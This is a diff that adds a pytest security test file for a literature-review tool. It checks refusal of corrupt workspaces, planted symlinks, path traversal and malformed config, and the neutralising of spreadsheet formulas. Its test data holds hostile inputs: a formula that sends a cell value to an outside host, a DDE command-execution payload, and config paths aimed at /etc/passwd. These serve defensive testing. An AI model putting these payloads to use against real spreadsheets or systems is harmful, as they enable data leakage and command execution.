@@ -1,0 +1,264 @@
+"""Hostile or careless input, kept together so the next attack starts from here: a damaged or foreign
+workspace, planted symlinks, paths out of the review folder, formulas in record text, a mistyped
+review.toml. Each case ends in one line naming the file (exit 2) and nothing stored is lost."""
+
+from __future__ import annotations
+
+import csv
+import os
+import sqlite3
+
+import pytest
+from tests.unit.test_cli import run_cli
+
+from litreview.errors import WorkspaceError
+from litreview.records import Citation
+from litreview.report.files import neutralise, restore, write_csv
+from litreview.screen.commands import export_decisions, import_decisions
+from litreview.screen.decisions import Decision
+from litreview.workspace import Workspace, check_run_id
+
+HOSTILE = [
+    '=HYPERLINK("http://x/?leak="&B2,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTAB first",
+    "\rCR first",
+    "'=already quoted",
+    "''=twice",
+    "plain title",
+    "'quoted but harmless",
+]
+
+
+def one_line_exit_2(code, out, *words):
+    lines = out.err.strip().splitlines()
+    assert code == 2 and len(lines) == 1 and "Traceback" not in out.err, out.err
+    for word in words:
+        assert word in lines[0], lines[0]
+
+
+# 1. a workspace that exists is never rebuilt over ----------------------------------------------------
+
+
+@pytest.mark.parametrize("content", [b"", b"this is not a database", None])
+def test_an_existing_file_that_is_not_a_workspace_is_refused(tmp_path, content):
+    root = tmp_path / "w"
+    root.mkdir()
+    db = root / "workspace.sqlite"
+    if content is None:  # another program's SQLite database
+        conn = sqlite3.connect(db)
+        conn.execute("CREATE TABLE mine (x)")
+        conn.commit()
+        conn.close()
+    else:
+        db.write_bytes(content)
+    before = db.read_bytes()
+    with pytest.raises(WorkspaceError, match="not|empty"):
+        Workspace(root, "demo").open()
+    assert db.read_bytes() == before
+
+
+def test_run_on_a_truncated_workspace_exits_2_and_leaves_it(review_copy, tmp_path, monkeypatch, capsys):
+    root = tmp_path / "w"
+    root.mkdir()
+    (root / "workspace.sqlite").write_bytes(b"")
+    code, out = run_cli(monkeypatch, capsys, "run", str(review_copy), "--workspace", str(root))
+    one_line_exit_2(code, out, "workspace.sqlite", "empty")
+    assert (root / "workspace.sqlite").read_bytes() == b""
+
+
+# 4. nothing written through a symlink, outside the workspace, or over an input ----------------------
+
+
+def test_the_lock_never_follows_a_planted_symlink(tmp_path):
+    victim = tmp_path / "precious.txt"
+    victim.write_text("keep me")
+    root = tmp_path / "w"
+    with Workspace(root, "demo"):
+        pass
+    (root / ".lock").unlink(missing_ok=True)
+    (root / ".lock").symlink_to(victim)
+    with Workspace(root, "demo") as ws, pytest.raises(WorkspaceError, match="lock"):
+        ws.lock()
+    assert victim.read_text() == "keep me"
+
+
+@pytest.mark.parametrize("run_id", ["../..", "/tmp/x", "a/b", "..", "", "x" * 200])
+def test_run_ids_are_folder_names(run_id):
+    with pytest.raises(WorkspaceError, match="run id"):
+        check_run_id(run_id)
+
+
+def test_cli_refuses_a_run_id_that_climbs_out(review_copy, tmp_path, monkeypatch, capsys):
+    code, out = run_cli(monkeypatch, capsys, "run", str(review_copy), "--workspace", str(tmp_path / "w"),
+                        "--run-id", "../../escape")  # fmt: skip
+    one_line_exit_2(code, out, "run id")
+    assert not (tmp_path / "escape").exists()
+
+
+def test_a_symlinked_runs_folder_is_not_followed(tmp_path):
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    root = tmp_path / "w"
+    with Workspace(root, "demo"):
+        pass
+    (root / "runs").symlink_to(elsewhere)
+    with Workspace(root, "demo") as ws, pytest.raises(WorkspaceError, match="symbolic link"):
+        ws.run_dir("r1")
+
+
+@pytest.fixture
+def screened(tmp_path):
+    root = tmp_path / "ws"
+    records = [Citation(record_id=f"x:{i}", source="x", native_id=str(i), title=title, authors=(title,), year=2020)
+               for i, title in enumerate(HOSTILE, start=1)]  # fmt: skip
+    with Workspace(root, "demo") as ws, ws.transaction():
+        ws.start_run("r1")
+        ws.store_records("r1", records)
+        ws.replace_auto_decisions("r1", [Decision("x:1", "title_abstract", "maybe")], ["x:1"])
+    return root
+
+
+def test_exports_never_write_over_the_database(screened):
+    before = (screened / "workspace.sqlite").read_bytes()
+    with pytest.raises(Exception, match="database"):
+        export_decisions(screened, screened / "workspace.sqlite")
+    assert (screened / "workspace.sqlite").read_bytes() == before
+
+
+def test_import_refuses_to_write_over_its_input(tmp_path, monkeypatch, capsys, data_dir):
+    source = tmp_path / "in.ris"
+    source.write_bytes((data_dir / "exports" / "embase_sample.ris").read_bytes()
+                       if (data_dir / "exports" / "embase_sample.ris").exists()
+                       else b"TY  - JOUR\nTI  - A title\nER  - \n")  # fmt: skip
+    before = source.read_bytes()
+    code, out = run_cli(monkeypatch, capsys, "import", str(source), "--out", str(source))
+    one_line_exit_2(code, out, "input")
+    assert source.read_bytes() == before
+
+
+def test_outputs_are_not_written_through_a_symlink(tmp_path):
+    victim = tmp_path / "victim.csv"
+    victim.write_text("keep")
+    (tmp_path / "out.csv").symlink_to(victim)
+    with pytest.raises(Exception, match="symbolic link"):
+        write_csv(tmp_path / "out.csv", ("a",), [{"a": "x"}])
+    assert victim.read_text() == "keep"
+
+
+# 5. a review folder reads only its own files, and never echoes one ----------------------------------
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [('file = "snapshot/embase/embase_export.ris"', 'file = "/etc/passwd"'),
+     ('file = "snapshot/embase/embase_export.ris"', 'file = "../../../../etc/passwd"'),
+     ('query_file = "ctgov.txt"', 'query_file = "/etc/hostname"'),
+     ('dir = "snapshot"', 'dir = "/etc"')],
+)  # fmt: skip
+def test_paths_outside_the_review_folder_are_refused_without_echoing_them(
+    review_copy, tmp_path, monkeypatch, capsys, old, new
+):
+    toml = review_copy / "review.toml"
+    assert old in toml.read_text()
+    toml.write_text(toml.read_text().replace(old, new))
+    code, out = run_cli(monkeypatch, capsys, "run", str(review_copy), "--workspace", str(tmp_path / "w"))
+    one_line_exit_2(code, out, "outside the review folder")
+    assert "root:" not in out.err and not (tmp_path / "w").exists()
+
+
+def test_a_symlink_out_of_the_review_folder_is_refused(review_copy, tmp_path, monkeypatch, capsys):
+    outside = tmp_path / "secret.txt"
+    outside.write_text("neuroendocrine carcinoma secret")
+    (review_copy / "ctgov.txt").unlink()
+    (review_copy / "ctgov.txt").symlink_to(outside)
+    code, out = run_cli(monkeypatch, capsys, "run", str(review_copy), "--workspace", str(tmp_path / "w"))
+    one_line_exit_2(code, out, "outside the review folder")
+    assert "secret" not in out.err.replace(str(tmp_path), "")
+
+
+# 11, 12. review.toml: wrong types and unknown tables are one line, never a traceback or a dropped source
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "words"),
+    [("[[sources]]\nname = \"embase\"", "[[source]]\nname = \"embase\"", ["unknown table", "source"]),
+     ('file = "snapshot/embase/embase_export.ris"', "file = 5", ["file", "expected a path"]),
+     ('query_file = "ctgov.txt"', 'query_file = ["ctgov.txt"]', ["query_file", "expected a path"]),
+     ('[snapshot]\ndir = "snapshot"', 'snapshot = "x"', ["snapshot"]),
+     ("[criteria]\n", "criteria = 5\n[criteria_x]\n", ["criteria"]),
+     ('label = "Embase"', 'label = "Embase"\nlabl = "typo"', ["unknown key", "labl"]),
+     ('searched = "2022-07-18"\ngroup = "databases"\n\n[[sources]]\nname = "embase"', 'searched = 20220718\ngroup = "databases"\n\n[[sources]]\nname = "embase"', ["searched", "string"])],
+)  # fmt: skip
+def test_review_toml_mistakes_are_one_line(review_copy, tmp_path, monkeypatch, capsys, old, new, words):
+    toml = review_copy / "review.toml"
+    text = toml.read_text()
+    assert old in text, old
+    toml.write_text(text.replace(old, new, 1))
+    code, out = run_cli(monkeypatch, capsys, "run", str(review_copy), "--workspace", str(tmp_path / "w"))
+    one_line_exit_2(code, out, "review.toml", *words)
+
+
+# 3. record text is never a live formula ------------------------------------------------------------
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_neutralise_is_reversible_and_defuses_every_formula(text):
+    safe = neutralise(text)
+    assert restore(safe) == text
+    assert safe[:1] not in ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_csv_sheet_defuses_formulas_and_reads_back_the_exact_text(screened, tmp_path):
+    sheet = tmp_path / "sheet.csv"
+    export_decisions(screened, sheet)
+    with open(sheet, newline="") as handle:  # a value may hold a line break
+        rows = list(csv.DictReader(handle))
+    for row in rows:
+        for column in ("title", "authors"):
+            assert row[column][:1] not in ("=", "+", "-", "@", "\t", "\r"), row[column]
+    # a reviewer's reason that starts like a formula survives the round trip exactly
+    rows[0].update(decision="exclude", reason=neutralise("=not a formula"), reviewer=neutralise("@ana"))
+    with open(sheet, "w", newline="") as handle:
+        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    import_decisions(sheet, screened)
+    with Workspace.existing(screened) as ws:
+        stored = [d for d in ws.decisions() if d.origin == "human"]
+    assert [(d.reason, d.reviewer) for d in stored] == [("=not a formula", "@ana")]
+
+
+def test_xlsx_sheets_hold_record_text_as_text(screened, tmp_path):
+    from openpyxl import load_workbook
+
+    sheet = tmp_path / "sheet.xlsx"
+    export_decisions(screened, sheet)
+    page = load_workbook(sheet).active
+    header = [c.value for c in page[1]]
+    titles = [page.cell(row=r, column=header.index("title") + 1) for r in range(2, page.max_row + 1)]
+    assert all(c.data_type == "s" for c in titles)
+    assert sorted(c.value for c in titles) == sorted(HOSTILE)
+
+
+def test_tables_xlsx_with_no_trials_is_written(tmp_path):
+    from openpyxl import load_workbook
+
+    from litreview.extract.tables import Tables, write_tables
+
+    out = write_tables(tmp_path, Tables(rows=[], applied=[], warnings=[]))
+    assert load_workbook(out["tables.xlsx"]).sheetnames == ["Tables"]
+
+
+def test_control_characters_do_not_stop_an_xlsx_export(tmp_path):
+    root = tmp_path / "ws"
+    with Workspace(root, "demo") as ws, ws.transaction():
+        ws.start_run("r1")
+        ws.store_records(
+            "r1", [Citation(record_id="x:1", source="x", native_id="1", title="bad \x01\x07 title")]
+        )
+    assert export_decisions(root, tmp_path / "s.xlsx") == 1
+    assert os.path.getsize(tmp_path / "s.xlsx") > 0
